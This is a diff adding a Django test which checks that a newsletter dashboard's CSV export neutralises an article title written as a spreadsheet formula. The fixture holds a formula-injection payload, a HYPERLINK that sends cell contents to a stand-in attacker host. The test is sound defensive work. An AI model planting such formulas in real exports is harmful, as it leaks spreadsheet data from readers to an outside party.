@@ -7,9 +7,11 @@ import pytest
 from django.contrib.auth.models import Permission
 
 from dashboard.figures import FIGURES
-from newsletter.tests.factories import make_staff
+from newsletter.models import Click
+from newsletter.tests.factories import built_edition, make_article, make_staff
 from subscriptions.models import Membership
 from subscriptions.tests.factories import make_subscriber
+from testing.clock import MONDAY, MONDAY_BEFORE_SEND
 
 pytestmark = pytest.mark.django_db
 
@@ -93,6 +95,25 @@ def test_each_table_exports_as_csv(billing):
     assert len(rows) == 1 + 8
     trials = billing.get("/admin/dashboard/trials/?days=30&format=csv").content.decode()
     assert trials.splitlines()[-1] == "2026-11-30,1"  # the factory's trial began "now"
+
+
+@pytest.mark.clock(MONDAY_BEFORE_SEND)
+def test_a_title_written_as_a_formula_is_text_in_the_csv(editor):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    story = make_article(title=formula)
+    plain = make_article(title="Harbour reopens")
+    edition = built_edition(MONDAY)
+    for article, clicks in ((story, 2), (plain, 1)):
+        for _ in range(clicks):
+            Click.objects.create(edition=edition, article=article)
+
+    response = editor.get("/admin/dashboard/most-read/?days=30&format=csv")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[0] == ["Story", "Clicks", "Readers who clicked"]
+    # Shown as the text it is, never run; numbers stay numbers.
+    assert rows[1] == ["'" + formula, "2", ""]
+    assert rows[2] == ["Harbour reopens", "1", ""]
 
 
 def test_pages_pass_the_csp_and_render_accessible_charts(billing):
